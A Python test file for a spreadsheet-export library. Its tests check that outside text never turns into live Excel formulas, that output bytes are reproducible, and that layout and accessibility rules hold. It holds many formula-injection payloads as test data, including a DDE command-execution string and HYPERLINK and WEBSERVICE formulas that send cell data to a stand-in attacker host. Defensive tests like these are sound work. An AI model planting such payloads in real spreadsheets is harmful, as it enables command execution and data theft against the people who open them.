"""The finished file as a file: what Excel may never run or hide, and bytes that depend on the data alone."""

from __future__ import annotations

import hashlib
import re
import subprocess
import sys
from dataclasses import replace
from datetime import UTC, date, datetime
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from reports.workbook.file.heights import lines_of
from reports.workbook.file.styles import NAVY, STATUS_COLOURS
from reports.workbook.file.text import LONGEST_CELL, clean_text
from reports.workbook.file.verify import verify_workbook
from reports.workbook.file.write import workbook_bytes
from reports.workbook.model import Field, Formula, Line, Link, NamedTable, Sheet, Workbook, WorkbookError
from reports.workbook.office.book import office_workbook
from tests.unit.office_school import case, school

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    '"=',
    "|",
    "%0A=",
    "\x00=",
    "\u202e=",
)
BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"click")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.example")',
    "1",
    "A1:A9",
)
PAYLOADS = [start + body for start in STARTS for body in BODIES]
NASTY = (
    "007",
    "1-2",
    "1e5",
    "TRUE",
    "#N/A",
    "https://evil.example/x",
    "mailto:someone@example.edu",
    "two\tcells\nand\r\nlines",
    "no\u00a0break",
    "bell\x07 and null\x00",
    "emoji 👩🏽‍⚕️ 🎓",
    "x" * 40_000,
    "🎓" * 20_000,
    "_x0041_ is not an escape",
    "<b>&amp;</b>",
    "right \u202eleft",
    "half \ud83d of one",
    "",
    "   ",
    "{=1+1}",
    "<r><t>=1+1</t></r>",
)  # fmt: skip


def book(*rows: str, **more: object) -> Workbook:
    """Return a small workbook with one column of outside text."""
    table = NamedTable(
        name="Texts",
        caption="Texts",
        fields=(Field("Text", "Anything.", width=40, outside=True), Field("Number", "A number.", kind="integer")),
        rows=tuple((row, number) for number, row in enumerate(rows)),
        words="Texts people typed.",
        filtered=True,
    )
    sheet = Sheet("Texts", "Texts", "What people typed.", (Line("A line."), table), frozen_columns=1)
    whole = Workbook(
        "Texts", (sheet,), datetime(2026, 9, 21, tzinfo=UTC), {"snapshot": "s1"}, "Footer & more", "Keep to yourself."
    )
    return replace(whole, **more)


@pytest.fixture(scope="module")
def office() -> Workbook:
    return office_workbook(case(school(people=40)))


@pytest.fixture(scope="module")
def content(office: Workbook) -> bytes:
    return workbook_bytes(office)


@pytest.fixture(scope="module")
def opened(content: bytes):
    return load_workbook(BytesIO(content))


def parts(content: bytes, pattern: str) -> dict[str, str]:
    """Return the parts of a file whose name matches."""
    with ZipFile(BytesIO(content)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist() if re.search(pattern, name)}


def test_no_text_from_outside_becomes_a_formula():
    model = book(*PAYLOADS)
    assert len(PAYLOADS) >= 100
    content = workbook_bytes(model)
    verify_workbook(content, model)
    assert all("<f>" not in part and "<f " not in part for part in parts(content, r"worksheets/sheet").values())
    page = load_workbook(BytesIO(content))["Texts"]
    cells = [page.cell(6 + number, 1) for number in range(len(PAYLOADS))]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)


def test_text_from_outside_stays_text_after_an_edit_and_a_save():
    content = workbook_bytes(book(*PAYLOADS))
    edited = load_workbook(BytesIO(content))
    edited["Texts"]["B6"] = 99
    again = BytesIO()
    edited.save(again)
    page = load_workbook(BytesIO(again.getvalue()))["Texts"]
    cells = [page.cell(6 + number, 1) for number in range(len(PAYLOADS))]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)


def test_nasty_text_is_held_as_a_cell_can_hold_it():
    model = book(*NASTY)
    verify_workbook(workbook_bytes(model), model)
    page = load_workbook(BytesIO(workbook_bytes(model)))["Texts"]
    held = {text: page.cell(6 + number, 1).value for number, text in enumerate(NASTY)}
    assert held["007"] == "007"
    assert held["1-2"] == "1-2"
    assert held["two\tcells\nand\r\nlines"] == "two cells and lines"
    assert held["no\u00a0break"] == "no break"
    assert held["bell\x07 and null\x00"] == "bell and null"
    assert held["emoji 👩🏽‍⚕️ 🎓"] == "emoji 👩🏽‍⚕️ 🎓"
    assert held["right \u202eleft"] == "right left"
    assert held["half \ud83d of one"] == "half  of one"
    assert held["   "] is None
    assert page["A10"].hyperlink is None


@pytest.mark.parametrize("sign", ["x", "🎓"])
def test_a_cell_of_40000_characters_is_cut_and_says_so(sign: str):
    cut = clean_text(sign * 40_000)
    assert len(cut.encode("utf-16-le")) // 2 <= LONGEST_CELL
    assert cut.endswith("(cut: longer than a cell can hold)")
    assert cut.startswith(sign * 10_000)


def test_clean_text_leaves_ordinary_text_alone():
    assert clean_text("Núñez-O’Brien, José (MD) ß 王") == "Núñez-O’Brien, José (MD) ß 王"


@pytest.mark.parametrize("name", ["", "  ", "x" * 32, "a/b", "what?", "[1]", "it's", "a:b"])
def test_a_sheet_name_excel_refuses_is_refused_in_one_sentence(name: str):
    model = book("x")
    with pytest.raises(WorkbookError, match="is not allowed: give it 1 to 31 characters"):
        workbook_bytes(replace(model, sheets=(replace(model.sheets[0], name=name),)))


def test_a_name_used_twice_is_refused():
    model = book("x")
    with pytest.raises(WorkbookError, match="stands twice"):
        workbook_bytes(replace(model, sheets=(*model.sheets, *model.sheets)))


def test_a_link_that_leads_nowhere_is_refused():
    fields = (Field("Clause", "Link.", kind="link"),)
    table = NamedTable("Links", "Links", fields, ((Link("A7", sheet="Texts", anchor="A7"),),), "Links.")
    model = book("x")
    with pytest.raises(WorkbookError, match="where there is no such row"):
        workbook_bytes(replace(model, sheets=(*model.sheets, Sheet("Links", "Links", "Links.", (table,)))))


def test_the_same_model_gives_the_same_bytes_in_one_process(office: Workbook, content: bytes):
    assert workbook_bytes(office) == content


def test_the_same_data_give_the_same_bytes_in_another_process(content: bytes):
    script = (
        "import hashlib\n"
        "from tests.unit.office_school import case, school\n"
        "from reports.workbook.office.book import office_workbook\n"
        "from reports.workbook.file.write import workbook_bytes\n"
        "print(hashlib.sha256(workbook_bytes(office_workbook(case(school(people=40))))).hexdigest())\n"
    )
    root = Path(__file__).parents[2]
    for seed in ("1", "2"):
        ran = subprocess.run(
            [sys.executable, "-c", script],
            cwd=root,
            env={"PYTHONHASHSEED": seed, "PYTHONPATH": str(root), "TZ": "Asia/Tokyo"},
            capture_output=True,
            text=True,
            check=True,
        )
        assert ran.stdout.strip() == hashlib.sha256(content).hexdigest()


def test_nothing_in_the_file_comes_from_the_clock(content: bytes):
    core = parts(content, r"docProps/core.xml")["docProps/core.xml"]
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core)) == {"2026-09-21T09:04:00Z"}
    with ZipFile(BytesIO(content)) as archive:
        assert {one.date_time[:3] for one in archive.infolist()} == {(1980, 1, 1)}


def test_the_properties_say_what_the_book_was_made_from(opened):
    properties = {one.name: one.value for one in opened.custom_doc_props}
    assert properties == {
        "programme": "anesthesiology",
        "quarter": "2026-04-01",
        "audience": "office",
        "as_of": "2026-09-21",
        "known_at": "2026-09-21T09:04:00+00:00",
        "snapshot": "anesthesiology:5f0c2ab91d hr:9e17bc0a4412",
        "rules_version": "2015-01-01.1",
        "schema_version": "1",
    }
    assert opened.properties.category == "Confidential"


def test_every_sheet_has_a_title_a_line_and_no_blank_or_hidden_row_or_column(opened):
    for page in opened.worksheets:
        assert page["A1"].value
        assert page["A2"].value
        assert not page.merged_cells.ranges
        assert not any(one.hidden for one in page.row_dimensions.values())
        assert not any(one.hidden for one in page.column_dimensions.values())
        grid = [[cell.value for cell in row] for row in page.iter_rows()]
        assert all(any(value is not None for value in row) for row in grid)
        assert all(any(value is not None for value in column) for column in zip(*grid, strict=True))


def test_every_block_is_a_named_table_with_unique_headers_and_a_text_alternative(opened, content: bytes):
    for page in opened.worksheets:
        for table in page.tables.values():
            headers = [cell.value for cell in page[table.ref][0]]
            assert len({str(header).casefold() for header in headers}) == len(headers)
    for part in parts(content, r"xl/tables/").values():
        assert re.search(r'altTextSummary="[^"]+"', part)


def test_headers_have_their_style_in_the_cells_too(opened):
    for page in opened.worksheets:
        for table in page.tables.values():
            cell = page[table.ref][0][0]
            assert cell.fill.fgColor.rgb == f"FF{NAVY[1:]}"
            assert cell.font.bold


def test_every_sheet_prints_on_letter_one_page_wide_with_repeated_rows_and_a_footer(opened):
    for page in opened.worksheets:
        assert page.page_setup.orientation == "landscape"
        assert int(page.page_setup.paperSize) == 1
        assert (page.page_setup.fitToWidth or 1, page.page_setup.fitToHeight) == (1, 0)
        assert page.sheet_properties.pageSetUpPr.fitToPage
        assert page.print_title_rows
        assert "Confidential" in page.oddFooter.left.text
        assert "Page" in page.oddFooter.center.text
        assert "as of 2026-09-21" in page.oddFooter.right.text


def test_the_worklist_can_be_filtered_sorted_and_scrolled(opened):
    page = opened["Worklist"]
    assert page.tables["Worklist"].autoFilter is not None
    assert page.freeze_panes == "D6"
    assert not page.protection.sheet
    assert opened["Summary"].tables["ByClause"].autoFilter is None


def test_dates_are_dates_and_ids_are_text(opened):
    page = opened["Worklist"]
    headers = [cell.value for cell in page[5]]
    due, person = (page.cell(6, headers.index(name) + 1) for name in ("Due", "Person ID"))
    assert due.is_date
    assert due.number_format == "yyyy-mm-dd"
    assert isinstance(person.value, str)


def test_every_formula_is_ours_and_shows_its_value_without_being_calculated(office: Workbook, content: bytes, opened):
    values = load_workbook(BytesIO(content), data_only=True)
    formulas = [
        (page.title, cell.coordinate)
        for page in opened.worksheets
        for row in page.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert len(formulas) > 20
    assert {sheet for sheet, _ in formulas} == {"Cover", "Summary"}
    assert all(isinstance(values[sheet][place].value, int | float) for sheet, place in formulas)


def contrast(one: str, other: str) -> float:
    """Return WCAG's contrast of two colours."""

    def light(colour: str) -> float:
        shares = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
        linear = [share / 12.92 if share <= 0.04045 else ((share + 0.055) / 1.055) ** 2.4 for share in shares]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    high, low = sorted((light(one), light(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


@pytest.mark.parametrize(
    ("text", "ground"),
    [
        *((text, ground) for _, text, ground in STATUS_COLOURS),
        ("#FFFFFF", NAVY),
        ("#0563C1", "#FFFFFF"),
        ("#404040", "#FFFFFF"),
    ],
)
def test_colours_can_be_read(text: str, ground: str):
    assert contrast(text, ground) >= 4.5


def test_verification_refuses_a_file_that_lost_a_cell():
    model = book("one", "two")
    with pytest.raises(WorkbookError, match="does not hold what was to be written"):
        verify_workbook(workbook_bytes(book("one", "2")), model)


def test_verification_refuses_a_file_with_a_formula_that_is_not_ours():
    model = book("=1+1")
    bad = load_workbook(BytesIO(workbook_bytes(model)))
    bad["Texts"]["A6"].data_type = "f"
    target = BytesIO()
    bad.save(target)
    with pytest.raises(WorkbookError, match="row 6, column 1"):
        verify_workbook(target.getvalue(), model)


def test_verification_refuses_a_formula_without_its_value():
    fields = (Field("Sum", "A sum.", kind="integer"),)
    table = NamedTable("Sums", "Sums", fields, ((Formula("=1+1", 2),), (3,)), "Sums.")
    model = replace(book("x"), sheets=(Sheet("Sums", "Sums", "Sums.", (table,)),))
    content = workbook_bytes(model)
    verify_workbook(content, model)
    saved = BytesIO()
    load_workbook(BytesIO(content)).save(saved)
    with pytest.raises(WorkbookError, match="does not hold what was to be written"):
        verify_workbook(saved.getvalue(), model)


def test_verification_refuses_a_missing_sheet_and_a_row_too_many():
    model = book("one")
    with pytest.raises(WorkbookError, match="wanted are"):
        verify_workbook(
            workbook_bytes(model), replace(model, sheets=(*model.sheets, replace(model.sheets[0], name="More")))
        )
    with pytest.raises(WorkbookError):
        verify_workbook(workbook_bytes(book("one", "two")), model)


def test_verification_refuses_a_table_that_lies_elsewhere():
    model = book("one", "two")
    moved = load_workbook(BytesIO(workbook_bytes(model)))
    moved["Texts"].tables["Texts"].ref = "A5:B6"
    target = BytesIO()
    moved.save(target)
    with pytest.raises(WorkbookError, match="table Texts lies elsewhere"):
        verify_workbook(target.getvalue(), model)


def test_verification_refuses_another_value_of_a_formula():
    fields = (Field("Sum", "A sum.", kind="integer"),)

    def sums(value: int) -> Workbook:
        table = NamedTable("Sums", "Sums", fields, ((Formula("=1+1", value),),), "Sums.")
        return replace(book("x"), sheets=(Sheet("Sums", "Sums", "Sums.", (table,)),))

    with pytest.raises(WorkbookError, match="does not hold"):
        verify_workbook(workbook_bytes(sums(3)), sums(2))


def test_a_row_is_as_high_as_its_text_needs():
    width = 20.0
    narrow, wide = "i" * 40, "W" * 40
    assert lines_of([narrow], [width]) == 1
    assert lines_of([wide], [width]) == 4
    assert lines_of(["one two three four five six seven"], [width]) == 2
    assert lines_of([wide, None, 7], [width, width, width]) == 4


def test_a_book_from_other_data_has_other_bytes(content: bytes):
    later = case(school(people=40, as_of=date(2026, 9, 22)), as_of=date(2026, 9, 22))
    assert workbook_bytes(office_workbook(later)) != content
